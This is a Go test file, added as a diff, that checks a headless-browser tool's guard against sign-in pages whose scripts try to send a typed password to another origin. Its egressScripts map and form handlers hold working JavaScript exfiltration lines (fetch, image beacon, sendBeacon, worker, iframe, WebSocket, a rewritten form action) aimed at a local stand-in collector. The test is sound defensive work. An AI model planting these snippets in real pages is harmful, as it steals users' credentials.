@@ -1,0 +1,230 @@
+//go:build linux
+
+package tests
+
+// Issue 43: the password's way out, guarded at the network. A sign-in page whose script tries
+// to send the typed password out — by fetch, an image, a beacon, a worker, a frame of another
+// origin, a WebSocket opened before or after the typing, the form itself pointed elsewhere at
+// the last moment, a GET form, a URL of the credential's own origin — must not get it past the
+// browser: every such request is refused before it leaves (auth login answers SECRET_EGRESS,
+// the page is discarded, the refusal audited), and the agent's server, which logs every
+// request and WebSocket message it gets, sees no form of the password. A script that posts the
+// sign-in to the credential's origin still signs in.
+
+import (
+	"fmt"
+	"html"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"golang.org/x/net/websocket"
+
+	"github.com/headless-dev/headless/internal/broker/presence/presencetest"
+)
+
+// egressSite is a sign-in site whose page's script tries a way out (GET /login?how=…), and
+// the agent's server of another origin, which records everything it receives.
+type egressSite struct {
+	siteBook
+	site, agent *httptest.Server
+	got         []string // the agent's log: request lines, bodies, WebSocket messages
+}
+
+func (s *egressSite) log(line string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.got = append(s.got, line)
+}
+
+// AgentLog is what the agent's server received.
+func (s *egressSite) AgentLog() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return strings.Join(s.got, "\n")
+}
+
+// egressScripts are the ways out a page tries, each started when the password field gets its
+// value (the input event of the host's typing), or at the submit.
+var egressScripts = map[string]string{
+	"fetch":          `fetch(AGENT + "/c", {method: "POST", body: pw.value, mode: "no-cors"});`,
+	"image":          `new Image().src = AGENT + "/i?d=" + encodeURIComponent(pw.value);`,
+	"beacon":         `navigator.sendBeacon(AGENT + "/b", JSON.stringify({p: pw.value}));`,
+	"worker":         `var w = new Worker("/w.js"); w.postMessage(pw.value);`,
+	"frame":          `document.getElementById("fr").contentWindow.postMessage(pw.value, "*");`,
+	"ws-before":      `early.send(pw.value);`,
+	"ws-after":       `var ws = new WebSocket(AGENT.replace("http", "ws") + "/ws"); ws.onopen = function () { ws.send(pw.value); };`,
+	"url-same":       `fetch("/api/check?p=" + encodeURIComponent(pw.value));`,
+	"form-elsewhere": ``, // at the submit: below
+	"get-form":       ``, // the form has no method and nothing posts it
+	"legit":          ``, // the sign-in posted by script to the credential's origin
+}
+
+func newEgressSite(t testing.TB) *egressSite {
+	s := &egressSite{siteBook: newSiteBook(http.Cookie{Name: "eg_sid"})}
+	agent := http.NewServeMux()
+	agent.Handle("GET /ws", websocket.Handler(func(c *websocket.Conn) {
+		s.log("ws open")
+		for {
+			var m string
+			if websocket.Message.Receive(c, &m) != nil {
+				return
+			}
+			s.log("ws message " + m)
+		}
+	}))
+	agent.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+		s.log(r.Method + " " + r.URL.String() + " " + string(b))
+		if r.URL.Path == "/frame" {
+			htmlPage(w, "Frame", "", `<script>onmessage = function (e) { fetch("/f", {method: "POST", body: e.data}); };</script>`)
+			return
+		}
+		w.WriteHeader(http.StatusNoContent)
+	})
+	s.agent = httptest.NewServer(agent)
+	t.Cleanup(s.agent.Close)
+
+	site := http.NewServeMux()
+	site.HandleFunc("GET /w.js", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/javascript")
+		fmt.Fprintf(w, `onmessage = function (e) { fetch(%q + "/wk", {method: "POST", body: e.data}); };`, s.agent.URL)
+	})
+	site.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) {
+		how := r.URL.Query().Get("how")
+		method := `method="post"`
+		if how == "get-form" {
+			method = ""
+		}
+		// The page's own submit waits a moment, so that the way out it tried on the typing has
+		// its time: the test is about what leaves, not about a race with the navigation.
+		onSubmit := `f.addEventListener("submit", function (ev) {
+  if (f.dataset.go) { return; }
+  ev.preventDefault();
+  setTimeout(function () { f.dataset.go = "1"; f.requestSubmit(); }, 1500);
+});`
+		switch how {
+		case "form-elsewhere":
+			onSubmit = `f.addEventListener("submit", function () { f.action = AGENT + "/collect"; });`
+		case "legit":
+			onSubmit = `f.addEventListener("submit", function (ev) {
+  ev.preventDefault();
+  fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
+    body: JSON.stringify({username: f.username.value, password: pw.value})})
+  .then(function (r) { return r.json(); }).then(function (j) { if (j.ok) { location.href = "/home"; } });
+});`
+		}
+		htmlPage(w, "Sign in", "", `<h1>Sign in to Example</h1>
+<form id="f" `+method+` action="/login">
+ <label for="u">Email</label> <input type="email" id="u" name="username" autocomplete="username">
+ <label for="p">Password</label> <input type="password" id="p" name="password" autocomplete="current-password">
+ <button type="submit">Sign in</button>
+</form>
+<iframe id="fr" src="`+s.agent.URL+`/frame" title="help" width="200" height="40"></iframe>
+<script>
+var AGENT = `+fmt.Sprintf("%q", s.agent.URL)+`, f = document.getElementById("f"), pw = document.getElementById("p"), sent = false;
+var early = new WebSocket(AGENT.replace("http", "ws") + "/ws");
+pw.addEventListener("input", function () {
+  if (sent || pw.value.length < 8) { return; }
+  sent = true;
+  `+egressScripts[how]+`
+});
+`+onSubmit+`
+</script>`)
+	})
+	site.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		u, p := r.PostForm.Get("username"), r.PostForm.Get("password")
+		s.record(loginPost{"site", "/login", u, p})
+		if !s.check(u, p) {
+			htmlPage(w, "Sign in", "", `<p role="alert">Invalid credentials</p>`)
+			return
+		}
+		s.signIn(w, u)
+		http.Redirect(w, r, "/home", http.StatusSeeOther)
+	})
+	site.HandleFunc("GET /api/check", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
+	site.HandleFunc("POST /api/login", s.apiLogin("site"))
+	site.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) {
+		if a := s.account(r); a != "" {
+			htmlPage(w, "Home", "", `<h1>Welcome `+html.EscapeString(a)+`</h1>`)
+			return
+		}
+		htmlPage(w, "Home", "", `<h1>Not signed in</h1>`)
+	})
+	s.site = httptest.NewServer(site)
+	t.Cleanup(s.site.Close)
+	return s
+}
+
+func TestEgressGuard(t *testing.T) {
+	parallel(t)
+	e := newEnv(t, envOptions{})
+	site := newEgressSite(t)
+	const account = "alice@example.test"
+	pw := newCanary()
+	site.SetAccount(account, pw)
+	approve, _ := presencetest.FakePinentry(t, "approve")
+	lsPresence(e, approve, 5)
+	lsEnroll(t, e, site.site.URL, "main", account, pw)
+	e.start(t)
+	needles := lsNeedles("password", pw)
+	sees := func(t *testing.T, where, text string) {
+		t.Helper()
+		for _, n := range needles {
+			if strings.Contains(text, string(n.b)) {
+				t.Errorf("LEAK: %s in %s", n.name, where)
+			}
+		}
+	}
+	egressAudits := func() int {
+		b, _ := os.ReadFile(filepath.Join(e.root, "data", "headless", "audit.jsonl"))
+		return strings.Count(string(b), `"op":"egress"`)
+	}
+	var mu sync.Mutex // the subtests share the default session: one at a time
+	for _, c := range []struct {
+		how     string
+		refused bool // SECRET_EGRESS; else the page's way out is shut without a word
+		status  string
+	}{
+		{"fetch", true, ""}, {"image", true, ""}, {"beacon", true, ""}, {"worker", true, ""}, {"frame", true, ""},
+		{"url-same", true, ""}, {"form-elsewhere", true, ""}, {"get-form", true, ""},
+		{"ws-before", false, "authenticated"}, {"ws-after", false, "authenticated"},
+		{"legit", false, "authenticated"},
+	} {
+		t.Run(c.how, func(t *testing.T) {
+			mu.Lock()
+			defer mu.Unlock()
+			e.run("", "headless", "visit", site.site.URL+"/logout", "--json")
+			audits := egressAudits()
+			r := e.run("", "headless", "visit", site.site.URL+"/login?how="+c.how, "--json")
+			sees(t, "visit", r.stdout+r.stderr)
+			if r.code != 0 {
+				t.Fatalf("visit: %+v", r)
+			}
+			r = e.run("", "headless", "auth", "login", "--alias", "main", "--json")
+			sees(t, "auth login", r.stdout+r.stderr)
+			switch {
+			case c.refused && (r.code == 0 || errCode(t, r) != "SECRET_EGRESS"):
+				t.Errorf("auth login on a page whose script sends the password out (%s): %+v, want SECRET_EGRESS", c.how, r)
+			case c.refused && egressAudits() != audits+1:
+				t.Errorf("%d egress records, want %d", egressAudits(), audits+1)
+			case !c.refused && (r.code != 0 || !strings.Contains(r.stdout, `"status":"`+c.status+`"`)):
+				t.Errorf("auth login (%s): %+v, want status %s", c.how, r, c.status)
+			}
+			if c.refused {
+				// The page was discarded: the session shows a blank page.
+				r := e.run("", "headless", "snapshot", "--json")
+				if r.code == 0 && !strings.Contains(r.stdout, `"url":"about:blank"`) {
+					t.Errorf("after a refused way out the page is still there: %s", r.stdout)
+				}
+			}
+			sees(t, "the agent's server", site.AgentLog())
+		})
+	}
+}
